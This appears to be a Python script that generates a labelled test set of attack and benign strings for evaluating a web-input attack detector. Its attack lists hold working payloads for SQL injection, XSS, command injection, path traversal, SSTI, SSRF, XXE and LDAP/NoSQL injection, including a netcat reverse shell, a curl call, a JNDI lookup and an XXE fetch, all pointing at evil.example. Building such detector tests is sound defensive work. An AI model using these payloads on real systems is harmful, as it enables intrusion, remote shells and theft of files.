#!/usr/bin/env python3
"""Post-hoc probe set, written AFTER the engine by its author (so not independent): new attack spellings and tricky
benign text. Reported separately and never tuned on. Writes posthoc.jsonl in the corpus format."""
import json, os
HERE = os.path.dirname(os.path.abspath(__file__))
A = {
 "SQLI": ["1' or '1'='1';--", "%27%20OR%201%3D1--", "1;SELECT pg_sleep(5)", "' or ''='", "') or true--", "1 AND 1=(SELECT 1)",
          "x' UNION(SELECT 1,2)--", "admin'/*", "1' waitfor delay '0:0:5'--", "' OR 'unusual' LIKE 'unus%'--", "-5 UNION SELECT 1"],
 "XSS": ["<svg><set onbegin=alert(1) attributename=x>", "<a href=\"&#0000106avascript:alert(1)\">x</a>", "<img src onerror=alert(1)>",
         "<iframe/src=data:text/html,<script>alert(1)</script>>", "javascript://%0aalert(1)", "<body/onpageshow=alert(1)>",
         "<a href=javas&#99;ript:alert(1)>x", "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "\"><svg onload=confirm(1)>"],
 "CMDI": [";cat</etc/passwd", "|ls${IFS}-la", "%0Awhoami", "&&curl${IFS}evil.example", "; nc evil.example 4444 -e /bin/sh",
          "$(sleep 5)", "`whoami`", "|| sh -c id", "x;uname${IFS}-a"],
 "PATH_TRAVERSAL": ["..%2f..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
                    "....\\/....\\/....\\/etc/passwd", "/proc/self/fd/0", "..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"],
 "SSTI": ["{{config.__class__}}", "${\"\".getClass().forName(\"java.lang.Runtime\")}", "{{ ''|attr('__class__') }}", "<%= `ls` %>",
          "#{7*7}", "${T(java.lang.Math).random()}", "{{7*'7'}}{{config}}", "${jndi:ldaps://evil.example:636/x}"],
 "SSRF": ["http://[::ffff:127.0.0.1]:8080/", "http://0x7f.0x0.0x0.0x1/", "http://017700000001/", "http://localhost%2e/",
          "https://metadata.google.internal./computeMetadata/v1/", "http://[0:0:0:0:0:ffff:7f00:1]/", "http://10.0.0.1.xip.io/",
          "http://user:pass@192.168.0.10:8080/"],
 "XXE": ["<!DOCTYPE x [<!ENTITY y SYSTEM \"http://evil.example\">]><x>&y;</x>", "<!doctype foo [<!entity xxe system \"file:///etc/passwd\">]><foo>&xxe;</foo>",
         "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"https://evil.example/p.dtd\">%p;]><r/>"],
 "LDAPI": ["*)(objectclass=*))(&(objectclass=void", "admin)(!(userPassword=x))", "*)(|(cn=a*", "x)(uid=*)"],
 "NOSQLI": ["{\"$where\":\"1==1\"}", "user[$regex]=.*", "{\"$ne\":1}", "'; return db.users.find(); var x='", "{\"$gt\":\"\"}"],
}
B = ["Tom's & Jerry's; cat food sale", "Use ls -la to list files", "Drop me a line; I'll update where needed", "OR gate: A OR B = 1",
     "Meet @ 5 (room 2)", "SELECT * FROM t -- comment in ticket", "File at C:\\Users\\Ann\\Documents\\report.docx",
     "See ../../README.md for details", "ping me on Slack | email", "The formula is {{a}} + {{b}}", "${PRICE} per unit",
     "Visit http://192.168.1.1 to configure your router", "user=alice&role=admin", "<https://example.com>", "x < y && y > z",
     "It's 5 o'clock; let's go", "a)(b", "email@domain.com (work)", "don't 'quote' me -- thanks", "1; 2; 3", "3 & 4", "2>1 is true",
     "Order 66; cat scan results attached", "My password reset link (https://app.example.com/reset?token=abc123) expired",
     "She said: \"Select all, then delete the duplicates\"", "Use {{ item.title | upper }} in the template",
     "Error at /usr/lib/python3/dist-packages/foo.py line 12", "Run `id` to see your uid", "The \"$regex\" field is optional",
     "Priority: P1 (urgent) | Owner: ops", "Cheers! :-) ;-) <3", "Price went from $5 to $7 (+40%)", "echo is my dog's name",
     "Where's my order?! It's been 2 weeks...", "Mix 1 part A with 2 parts B; let it sit", "If (x > 3) then refund else credit",
     "Dear O'Connor, your ticket #5521 has been updated", "Copy the file to \\\\server\\share\\reports", "Use <br> for line breaks",
     "Temperature: -5°C; wind: 20 km/h", "WHERE clause examples are in the docs", "union of sets A and B", "1 or 2 sugars please",
     "'Quoted' text -- with dashes", "He wrote: <b>urgent</b>", "call me at 555-0100; or email", "ls: cannot access 'x': No such file"]
with open(os.path.join(HERE, "posthoc.jsonl"), "w", encoding="utf-8") as f:
    i = 200000
    for cat, vs in A.items():
        for v in vs:
            i += 1
            f.write(json.dumps({"id": i, "split": "tune", "label": "attack", "category": cat, "kind": "value", "context": "json_value", "value": v}, ensure_ascii=False) + "\n")
    for v in B:
        i += 1
        f.write(json.dumps({"id": i, "split": "tune", "label": "benign", "category": None, "kind": "value", "context": "json_value", "value": v}, ensure_ascii=False) + "\n")
print(sum(len(v) for v in A.values()), "attacks,", len(B), "benign")
